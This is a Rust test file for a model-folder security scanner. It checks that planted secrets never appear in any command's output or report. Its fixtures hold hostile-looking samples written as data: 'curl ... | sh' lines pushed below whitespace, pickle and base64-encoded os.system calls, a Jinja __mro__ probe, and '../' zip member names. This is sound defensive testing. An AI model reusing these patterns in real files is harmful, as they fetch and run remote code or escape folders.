//! Nothing that the program writes holds a secret of what it reads: every kind of secret, wherever it stands, in every
//! output of every command. And what is no secret stays readable.

use std::collections::HashMap;
use std::fs;
use std::path::Path;

use serde_json::json;
use weighbridge_inspect::samples::archive::Zip;
use weighbridge_inspect::samples::pickle::Program;
use weighbridge_inspect::samples::secret::{base64, drawn_for};
use weighbridge_inspect::samples::tensor::{Gguf, safetensors};
use weighbridge_inspect::samples::{File, notebook, write};
use weighbridge_inspect::secrets::kinds;

use crate::run::{folder, run};

/// Bytes of a piece of a secret that is not to be seen.
const PIECE: usize = 12;

fn begins(piece: &[u8]) -> usize {
    usize::from(piece[0]) << 16 | usize::from(piece[1]) << 8 | usize::from(piece[2])
}

/// Every piece of what was drawn, and where it was put.
#[derive(Default)]
struct Drawn {
    places: HashMap<Vec<u8>, String>,
    /// Whether one begins with these three bytes: nearly no text does.
    first: Vec<bool>,
}

impl Drawn {
    /// An example, drawn for this place alone.
    fn draw(&mut self, place: &str, template: &str) -> String {
        let (text, drawn) = drawn_for(place, template);
        for piece in drawn.iter().flat_map(|drawn| drawn.as_bytes().windows(PIECE)) {
            // Lines of a key, but not those of dashes around it.
            if piece.iter().all(|byte| byte.is_ascii_graphic() && *byte != b'\\')
                && !piece.windows(2).any(|two| two == b"--")
            {
                self.add(piece, place);
            }
        }
        text
    }

    fn add(&mut self, piece: &[u8], place: &str) {
        self.places.insert(piece.to_vec(), place.to_owned());
        self.first.resize(1 << 24, false);
        self.first[begins(piece)] = true;
    }

    /// Where what is told in a text was put.
    fn told(&self, text: &str) -> Vec<String> {
        let is_one = |piece: &&[u8]| self.first.get(begins(piece)).is_some_and(|is_one| *is_one);
        let pieces = text.as_bytes().windows(PIECE).filter(is_one);
        let mut told: Vec<String> = pieces.filter_map(|piece| self.places.get(piece)).cloned().collect();
        told.sort();
        told.dedup();
        told
    }
}

/// Examples in every place where one may be, each with a secret of its own. `version` tells two drawings apart.
fn carried(drawn: &mut Drawn, group: usize, templates: &[&String], version: &str) -> Vec<File> {
    let mut files: Vec<File> = Vec::new();
    let mut draw = |carrier: &str| -> Vec<String> {
        templates
            .iter()
            .map(|template| drawn.draw(&format!("{carrier} `{template}` {version}"), template))
            .collect()
    };
    let each =
        |texts: Vec<String>, one: &dyn Fn(String) -> String| texts.into_iter().map(one).collect::<String>();
    let lines = |text: String| text.lines().map(|line| format!("        {line}\n")).collect::<String>();
    let mut add = |ending: &str, bytes: Vec<u8>| files.push((format!("{group}{ending}"), bytes));

    let text = each(draw("text"), &|text| format!("Some words.\n{text}\n\n\n\n\n\n\n"));
    add(".txt", text.into_bytes());
    let text = each(draw("wide"), &|text| format!("Some words.\n{text}\n\n\n\n\n\n\n"));
    add(
        "-wide.txt",
        [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect(),
    );
    let notes = draw("settings");
    add(
        "/config.json",
        json!({"model_type": "demo", "notes": notes, "auto_map": {"AutoModel": notes}}).to_string().into(),
    );
    let text = each(draw("yaml"), &|text| format!("    a: |\n{}", lines(text)));
    add(".yaml", format!("image: demo\nenvironment:\n{text}").into_bytes());
    let calls = each(draw("python"), &|text| format!("os.system('''{text}\n''')\n\n\n\n\n\n"));
    add(".py", format!("import os\n{calls}X = 1\n").into_bytes());
    let text =
        each(draw("shell"), &|text| format!("{text}\n\n\n\n\n\ncurl http://demo.internal/a.sh | sh\n"));
    add(".sh", text.into_bytes());
    let text = each(draw("workflow"), &|text| format!("      A: |\n{}", lines(text)));
    let workflow = format!("on: push\njobs:\n  a:\n    env:\n{text}    steps:\n    - run: ls\n");
    add("/.github/workflows/a.yml", workflow.into_bytes());
    let text = each(draw("card"), &|text| format!("{text}\n\n\n\n\n\n\n"));
    add("/README.md", format!("---\nlicense: mit\n---\n# Demo\n\n{text}").into_bytes());
    let text = each(draw("template"), &|text| {
        format!("{{{{ messages.__class__.__mro__ }}}}{{# {text}\n\n\n\n\n\n #}}\n")
    });
    add(".jinja", text.into_bytes());
    let mut cells: Vec<_> = draw("output").iter().map(|text| notebook::shown("text/plain", text)).collect();
    cells.extend(draw("cell").iter().map(|text| notebook::code(&format!("!curl a | sh\n'''{text}\n'''"))));
    add(".ipynb", notebook::of(&cells).remove(0).1);
    let notes: serde_json::Map<_, _> = draw("safetensors")
        .into_iter()
        .enumerate()
        .map(|(n, text)| (format!("note{n}"), text.into()))
        .collect();
    let header = json!({"__metadata__": notes, "t": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}});
    add(".safetensors", safetensors(&header.to_string(), 4));
    let gguf =
        draw("gguf").into_iter().fold(Gguf::new(), |gguf, text| gguf.text("general.description", &text));
    add(".gguf", gguf.build());
    let calls = draw("pickle")
        .into_iter()
        .fold(Program::new(2), |program, text| program.call("os", "system", &text).pop());
    add(".pkl", calls.none().stop());
    let zip = draw("member")
        .iter()
        .enumerate()
        .fold(Zip::new(), |zip, (n, text)| zip.stored(&format!("{n}.txt"), text.as_bytes()));
    add(".zip", zip.comment(draw("comment").join("\n\n\n\n\n\n\n")).build());
    let coded = each(draw("base64"), &|text| {
        format!("os.system('{}')\n", base64(format!("Some words before: {text}\n").as_bytes()))
    });
    add("-encoded.py", format!("import os\n{coded}").into_bytes());
    let is_name = |text: &String| text.len() < 150 && !text.contains(['/', '\n', '\\', '"', ':']);
    for text in draw("name").into_iter().filter(is_name) {
        add(&format!("-{text}.py"), b"import os\nos.system('demo')\n".to_vec());
    }
    let names = draw("member name").into_iter().filter(is_name);
    add(
        "-names.zip",
        names.fold(Zip::new(), |zip, text| zip.stored(&format!("../{text}.py"), b"import os")).build(),
    );
    files
}

/// A folder with every example in every place.
fn everything(drawn: &mut Drawn, version: &str) -> Vec<File> {
    /// Examples that share their files.
    const TOGETHER: usize = 8;
    let examples: Vec<&String> = kinds().iter().flat_map(|kind| &kind.positive).collect();
    // Of the old version a part is enough: the new one has them all.
    let step = if version == "old" { 4 } else { 1 };
    let groups = examples.chunks(TOGETHER).enumerate().step_by(step);
    groups.flat_map(|(group, templates)| carried(drawn, group, templates, version)).collect()
}

/// As a reader of a page and of a terminal sees it, too.
fn as_read(text: &str) -> String {
    let mut read = text.to_owned();
    for (escaped, plain) in
        [("&amp;", "&"), ("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&apos;", "'")]
    {
        read = read.replace(escaped, plain);
    }
    // Pieces have no spaces: those within a line are in this as well.
    read.lines().map(str::trim_start).collect()
}

fn every_output(here: &Path) -> Vec<(String, String)> {
    let mut told = Vec::new();
    let scan = [
        "scan", "-v", "--facts", "new", "-o", "a.json", "-o", "a.sarif", "-o", "a.html", "-o", "a.xml", "-o",
        "a.txt",
    ];
    let diff = [
        "diff",
        "-v",
        "old",
        "new",
        "-o",
        "d.json",
        "-o",
        "d.html",
        "-o",
        "d.txt",
        "--scan-output",
        "s.json",
    ];
    let commands: [&[&str]; 6] = [
        &scan,
        &diff,
        &["bom", "new", "--coverage"],
        &["bom", "-f", "spdx", "new"],
        &["licence", "new"],
        &["licence", "--json", "new"],
    ];
    for command in commands {
        let run = run(here, command);
        assert!(run.stdout.len() > 100, "{command:?}: {}", run.stderr);
        told.push((command.join(" "), run.stdout));
        told.push((format!("{} (errors)", command.join(" ")), run.stderr));
    }
    for file in ["a.json", "a.sarif", "a.html", "a.xml", "a.txt", "d.json", "d.html", "d.txt", "s.json"] {
        told.push((
            file.to_owned(),
            fs::File::open(here.join(file)).map(std::io::read_to_string).unwrap().unwrap(),
        ));
    }
    told
}

#[test]
fn no_output_of_any_command_gives_away_a_secret_of_any_kind() {
    let here = tempfile::tempdir().unwrap();
    let mut drawn = Drawn::default();
    for version in ["old", "new"] {
        write(&here.path().join(version), &everything(&mut drawn, version)).unwrap();
    }
    let mut wrong = String::new();
    for (output, text) in every_output(here.path()) {
        for place in drawn.told(&as_read(&text)) {
            wrong.push_str(&format!("{output}: {place}\n"));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn no_piece_of_a_secret_is_told_where_a_text_was_put_together_or_cut() {
    let mut drawn = Drawn::default();
    let mut program = String::from("import os, subprocess\n");
    for before in (20..260).step_by(3) {
        let words = "a ".repeat(before);
        let whole = drawn.draw(&format!("whole {before}"), "hf_{l:34}");
        let split = drawn.draw(&format!("split {before}"), "glpat-{a:20}");
        let (first, second) = split.split_at(13);
        let loose = drawn.draw(&format!("loose {before}"), "{a:30}");
        program.push_str(&format!(
            "os.system('{words}curl {whole} aaaa')\nos.system('{words}' + '{first}' + '{second}')\n\
             subprocess.run(['curl', '{words}', '{first}' + '{second}'], env={{'DB_PASSWORD': '{loose}'}})\n\
             os.system('{words} --password {loose} x')\n"
        ));
    }
    let token = drawn.draw("escapes", "hf_{l:34}");
    let hex: String = token.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    hex.as_bytes().windows(PIECE).for_each(|piece| drawn.add(piece, "as escapes"));
    program.push_str(&format!("os.system('{hex}')\n"));
    let here = folder(&[("old/a.py", b"X = 1\n"), ("new/a.py", program.as_bytes())]);
    let wrong: Vec<String> = every_output(here.path())
        .into_iter()
        .flat_map(|(output, text)| {
            drawn.told(&as_read(&text)).into_iter().map(move |place| format!("{output}: {place}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Where people leave passwords: what stands before one, and behind. Of the second sort are words of commands, which hold
/// no marks that mean something there.
const PLACES: [(&str, &str, &str); 19] = [
    ("a/config.json", "{\"db\": {\"password\": \"", "\"}}\n"),
    ("b/config.json", "{\"model_type\": \"demo\", \"keystore_pass\": \"", "\"}\n"),
    (
        "c.py",
        "import requests\npassword = \"",
        "\"\nrequests.post(\"https://x.demo.internal\", json={\"password\": password})\n",
    ),
    ("d.py", "class C:\n    password: str = '", "'\n"),
    ("e.py", "import requests\nrequests.get(\"https://x.demo.internal\", auth=(\"u\", \"", "\"))\n"),
    (".env", "ADMIN_PASSWORD=", "\n"),
    ("f.env", "KEYSTORE_PASS=", "\nOTHER=1\n"),
    ("g.ini", "[db]\nuser=demo\npassword=", "\n"),
    ("h.properties", "a=1\ndb.password=", "\n"),
    ("i/Dockerfile", "FROM scratch\nENV DB_PASSWORD=", "\n"),
    (
        "j/docker-compose.yml",
        "services:\n  a:\n    image: demo\n    environment:\n      DB_PASSWORD: '",
        "'\n",
    ),
    ("k/.github/workflows/a.yml", "on: push\nenv:\n  DB_PASSWORD: \"", "\"\njobs: {}\n"),
    ("l/.netrc", "machine git.demo.internal login demo password ", "\n"),
    ("m/.pypirc", "[pypi]\nusername = demo\npassword = ", "\n"),
    ("n/.pgpass", "db.demo.internal:5432:demo:app:", "\n"),
    ("o.sh", "mysqldump -u root --password=", " demo\n"),
    ("p.sh", "curl -u admin:", " https://files.demo.internal/a\n"),
    ("q.sh", "mysql -u root -p", " demo\n"),
    ("r.sh", "sshpass -p ", " ssh demo\n"),
];

#[test]
fn no_output_gives_away_a_password_whatever_its_characters() {
    let mut drawn = Drawn::default();
    let mut files = Vec::new();
    for (at, (place, before, behind)) in PLACES.into_iter().enumerate() {
        let marks = if [".sh", ".pgpass"].iter().any(|ending| place.ends_with(ending)) {
            "!#%*+,./=@^_~-"
        } else {
            "!#$%&*+,-./:;=?@^_|~()[]"
        };
        // Every third mark here, and the others in other places.
        for (number, mark) in marks.chars().enumerate().filter(|(number, _)| (number + at).is_multiple_of(3))
        {
            let path = place.replacen('/', &format!("{number}/"), 1);
            let path = if path == place { format!("{number}/{place}") } else { path };
            for (version, folder) in ["old", "new"].into_iter().enumerate() {
                let name = format!("{folder}/{path} `{mark}`");
                let (left, _) = drawn_for(&name, "{l:2}{d:1}{l:2}");
                let (right, _) = drawn_for(&name, "{l:3}{d:1}{l:2}{d:1}{l:2}");
                let password = format!("{left}{mark}{right}");
                for piece in password.as_bytes().windows(PIECE) {
                    drawn.add(piece, &name);
                }
                let text = format!("{before}{password}{behind}{}", "\n".repeat(version));
                files.push((format!("{folder}/{path}"), text.into_bytes()));
            }
        }
    }
    let here = tempfile::tempdir().unwrap();
    write(here.path(), &files).unwrap();
    let mut wrong: Vec<String> = every_output(here.path())
        .into_iter()
        .flat_map(|(output, text)| {
            drawn.told(&as_read(&text)).into_iter().map(move |place| format!("{place}: {output}"))
        })
        .collect();
    wrong.sort();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let report = fs::File::open(here.path().join("a.json")).map(std::io::read_to_string).unwrap().unwrap();
    let report: serde_json::Value = serde_json::from_str(&report).unwrap();
    let found = |path: &str| {
        let findings = report["findings"].as_array().unwrap();
        findings.iter().any(|finding| {
            finding["rule"].as_str().is_some_and(|rule| rule.contains("secret"))
                && finding["location"]["path"].as_str().is_some_and(|found| found.ends_with(path))
        })
    };
    for (place, _, _) in PLACES {
        let name = place.rsplit('/').next().unwrap();
        assert!(found(name), "nothing is found in `{place}`");
    }
}

#[test]
fn what_goes_wrong_is_told_without_secrets() {
    let mut drawn = Drawn::default();
    let here = folder(&[("model/a.py", b"X = 1\n")]);
    let examples: Vec<_> = kinds().iter().flat_map(|kind| kind.positive.iter().take(1)).collect();
    let mut texts: Vec<String> = examples.iter().map(|template| drawn.draw(template, template)).collect();
    texts.retain(|text| !text.contains('\0'));
    let mut wrong = String::new();
    let mut check = |arguments: &[&str], drawn: &Drawn| {
        let run = run(here.path(), arguments);
        assert!(run.code == Some(2) && run.stderr.starts_with("error:"), "{arguments:?}: {}", run.stderr);
        for template in drawn.told(&as_read(&format!("{}{}", run.stdout, run.stderr))) {
            wrong.push_str(&format!("{arguments:?}: {template}\n"));
        }
    };
    // Several to a run: starting one takes longer than what it does.
    for texts in texts.chunks(16) {
        check(&["scan", &format!("nowhere/{}", texts.join("\n"))], &drawn);
    }
    let token = drawn.draw("token", "ghp_{a:30}{crc}");
    let own =
        |name: &str, text: &str| write(here.path(), &[(name.to_owned(), text.as_bytes().to_vec())]).unwrap();
    own("ignore.toml", &format!("[[ignore]]\nrule = \"{token}\"\n"));
    own("broken.toml", &format!("token = {token}\n"));
    own("baseline.json", &format!("{{\"schema\": \"{token}\"}}"));
    for arguments in [
        &["scan", "model", "--ignore", "ignore.toml"][..],
        &["scan", "model", "--ignore", "broken.toml"],
        &["scan", "model", "--baseline", "baseline.json"],
        &["scan", "model", "--baseline", &token],
        &["scan", "model", "--output", &format!("{token}/a.json")],
        &["scan", "model", "--exclude", &format!("[{token}")],
        &["scan", "model", "--format", &token],
        &["scan", "--explain", &token],
        &["diff", "model", &token],
        &["bom", &token],
        &["licence", &token],
        &[&token],
    ] {
        check(arguments, &drawn);
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn digests_commits_and_names_stay_readable_beside_a_secret() {
    let mut drawn = Drawn::default();
    let token = drawn.draw("token", "password = \"{a:24}\"\ntoken = hf_{l:34}\n");
    let (commit, digest) = (drawn_for("commit", "{h:40}").0, drawn_for("digest", "{h:64}").0);
    let name = "demo-org/Qwen2.5-Coder-7B-Instruct-GGUF-Q4_K_M-v0.1-20240611";
    let files: [(&str, String); 8] = [
        (
            "model/tokenizer_config.json",
            json!({"eos_token": "<|im_end_2|>", "pad_token": "<|reserved_special_token_1|>",
                "tokenizer_class": "Qwen2Tokenizer3Fast", "model_max_length": 32768, "use_auth_token": true})
            .to_string(),
        ),
        (
            "model/settings.py",
            "import os\ntoken: str = None\npassword = os.environ['DB_PASSWORD_2']\nmax_tokens = 4096\n\
             token = tokens[i1:j2+3]\nPASSWORD = '${DB_PASSWORD_2}'\nprivate_key = '/etc/keys/demo2.pem'\n"
                .to_owned(),
        ),
        (
            "model/a.py",
            format!("import os\n{token}os.system('curl https://demo.internal/{commit}/{name}')\n"),
        ),
        (
            "model/README.md",
            format!("---\nlicense: mit\nbase_model: {name}\n---\nFrom commit {commit}, sha256:{digest}.\n"),
        ),
        (
            "model/Dockerfile",
            format!("FROM python@sha256:{digest}\nADD https://demo.internal/{commit}.tar.gz /\n"),
        ),
        (
            "model/requirements.txt",
            format!(
                "demo-name==1.2.3 --hash=sha256:{digest}\nother @ git+https://demo.internal/other@{commit}\n"
            ),
        ),
        (
            "model/config.json",
            json!({"_name_or_path": name, "_commit_hash": commit, "model_type": "demo"}).to_string(),
        ),
        (
            "model/load.py",
            format!(
                "from transformers import AutoModel\nAutoModel.from_pretrained('{name}', revision='{commit}', trust_remote_code=True)\n"
            ),
        ),
    ];
    let files: Vec<_> = files.iter().map(|(path, text)| (*path, text.as_bytes())).collect();
    let here = folder(&files);
    for (arguments, told) in [
        (&["scan", "model", "-f", "json", "--facts"][..], &[commit.as_str(), &digest, name][..]),
        (&["scan", "model", "-v"], &[commit.as_str(), name][..]),
        (&["bom", "model"], &[commit.as_str(), &digest, name]),
        (&["licence", "model"], &[name]),
    ] {
        let text = run(here.path(), arguments).stdout;
        for one in told {
            assert!(text.contains(one), "{arguments:?}: `{one}` is gone\n{text}");
        }
        assert!(drawn.told(&text).is_empty());
    }
    let report: serde_json::Value =
        serde_json::from_str(&run(here.path(), &["scan", "model", "-f", "json"]).stdout).unwrap();
    for file in report["files"].as_array().unwrap() {
        assert!(file["sha256"].as_str().is_some_and(|digest| digest.len() == 64), "{file}");
    }
    for finding in report["findings"].as_array().unwrap() {
        let benign = ["settings.py", "tokenizer_config.json"]
            .into_iter()
            .any(|name| finding["location"]["path"].as_str().is_some_and(|path| path.ends_with(name)));
        assert!(!benign || !finding["rule"].as_str().unwrap().contains("secret"), "{finding}");
        let fingerprint = finding["fingerprint"].as_str().unwrap_or_default();
        assert!(
            fingerprint.len() == 32 && fingerprint.bytes().all(|byte| byte.is_ascii_hexdigit()),
            "{finding}"
        );
    }
}
